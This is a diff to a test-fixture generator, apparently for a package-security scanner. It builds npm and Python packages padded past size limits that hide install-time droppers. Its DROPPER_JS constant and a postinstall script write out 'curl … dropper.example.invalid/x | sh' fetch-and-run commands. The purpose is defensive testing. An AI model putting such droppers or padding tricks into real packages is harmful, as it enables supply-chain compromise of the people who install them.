@@ -5,6 +5,7 @@
 // the "payloads" are inert one-liners naming example.invalid.
 //
 //   node scripts/gen-hostile.mjs OUT_DIR      writes every case under OUT_DIR/<id>/
+//   node scripts/gen-hostile.mjs OUT_DIR --big  also the 50 MB source files (gen-hostile-source.mjs)
 //   node scripts/gen-hostile.mjs --list       prints the ids and what each one is
 //
 // Tests import hostileCases() and check each case's `expect`.
@@ -12,6 +13,7 @@ import { mkdirSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import { pathToFileURL } from "node:url";
 import { crc32, deflateRawSync, gzipSync } from "node:zlib";
+import { bigSourceCases, sourceCases } from "./gen-hostile-source.mjs";
 
 const MB = 1024 * 1024;
 const DROPPER_JS = 'require("child_process").exec("curl -s http://dropper.example.invalid/x | sh");\n';
@@ -69,23 +71,23 @@ export function hostileCases() {
     {
       group: "unanalysed",
       id: "npm-padded-install",
-      about: "install.js padded past 6 MB with a comment",
+      about: "install.js padded past 6 MB with a comment (comments cost no parse budget: analysed)",
       files: { "package.json": postinstall("node install.js"), "install.js": padded(6.5 * MB, DROPPER_JS) },
-      expect: { rule: "unanalysed-code", severity: "high", file: "install.js" },
+      expect: { found: ["install-time-network", "install.js"], noRule: "unanalysed-code" },
     },
     {
       group: "unanalysed",
       id: "npm-padded-required",
-      about: "install.js requires lib/big.js, padded past 6 MB",
+      about: "install.js requires lib/big.js, padded past 6 MB (analysed)",
       files: { "package.json": postinstall("node install.js"), "install.js": 'require("./lib/big");\n', "lib/big.js": padded(6.5 * MB, DROPPER_JS) },
-      expect: { rule: "unanalysed-code", severity: "high", file: "lib/big.js" },
+      expect: { found: ["install-time-network", "lib/big.js"], noRule: "unanalysed-code" },
     },
     {
       group: "unanalysed",
       id: "npm-padded-manifest",
-      about: "package.json padded past 10 MB; its postinstall is curl|sh",
+      about: "package.json padded past 10 MB (read: under --max-file-bytes); its postinstall is curl|sh",
       files: { "package.json": JSON.stringify({ name: "hostile-fixture", version: "1.0.0", description: "x".repeat(10.5 * MB), scripts: { postinstall: "curl -s http://dropper.example.invalid/x | sh" } }) },
-      expect: { rule: "unanalysed-code", severity: "high", file: "package.json" },
+      expect: { found: ["install-time-network", "package.json"] },
     },
     {
       group: "unanalysed",
@@ -104,16 +106,16 @@ export function hostileCases() {
     {
       group: "unanalysed",
       id: "py-padded-setup",
-      about: "setup.py padded past 4 MB with a comment",
+      about: "setup.py padded past 4 MB with a comment (comments cost no parse budget: analysed)",
       files: { "setup.py": padded(4.5 * MB, DROPPER_PY, "#"), "PKG-INFO": "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n" },
-      expect: { rule: "unanalysed-code", severity: "high", file: "setup.py" },
+      expect: { found: ["install-time-network", "setup.py"], noRule: "unanalysed-code" },
     },
     {
       group: "unanalysed",
       id: "py-padded-module-unreached",
-      about: "benign twin: a 4.5 MB Python data module deep in the package",
+      about: "benign twin: a 4.5 MB Python data module deep in the package (analysed, nothing to say)",
       files: { "setup.py": "from setuptools import setup\nsetup(name='hostile-fixture', version='1.0.0')\n", "pkg/data/table.py": padded(4.5 * MB, "TABLE = 1\n", "#") },
-      expect: { noRule: "unanalysed-code", listed: "pkg/data/table.py" },
+      expect: { noRule: "unanalysed-code", clean: true },
     },
     {
       group: "unanalysed",
@@ -362,7 +364,8 @@ function main() {
       writeFileSync(join(out, a.id, a.name), a.data);
     }
   }
-  for (const c of hostileCases()) {
+  const withBig = process.argv.includes("--big");
+  for (const c of [...hostileCases(), ...sourceCases(), ...(withBig ? bigSourceCases() : [])]) {
     if (out === "--list") {
       process.stdout.write(`${c.id}\t${c.about}\n`);
       continue;
